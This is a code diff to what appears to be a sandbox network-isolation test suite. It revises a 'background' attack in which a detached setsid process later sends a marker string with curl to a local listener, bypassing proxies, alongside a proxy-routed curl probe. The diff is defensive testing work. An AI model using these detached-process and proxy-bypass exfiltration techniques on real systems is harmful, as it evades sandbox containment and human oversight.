@@ -120,13 +120,15 @@ export const NETWORK: Stage = {
         `curl -s -m 3 $http_proxy/${word}; curl -s -m 3 "$HTTPS_PROXY/${word}"; true ${port}`,
       {},
     ),
-    attack(
-      'background',
-      'A process that waits for the end of its command',
-      ({ port }, word) =>
-        `(setsid sh -c 'sleep 0.5; echo ${word} | curl -s -m 3 --noproxy "*" -d @- http://127.0.0.1:${port}/' > /dev/null 2>&1 &)`,
-      {},
-    ),
+    {
+      ...attack('background', 'A process that waits for the end of its command', () => '', {}),
+      does: ({ listeners: { port } }) => [
+        ...shell(
+          `(setsid sh -c 'sleep 3; echo arrived-by-background | curl -s -m 3 --noproxy "*" -d @- http://127.0.0.1:${port}/' > /dev/null 2>&1 &)`,
+        ),
+        ...shell('sleep 5'),
+      ],
+    },
     hears(
       'dns',
       'Names looked up by the machine',
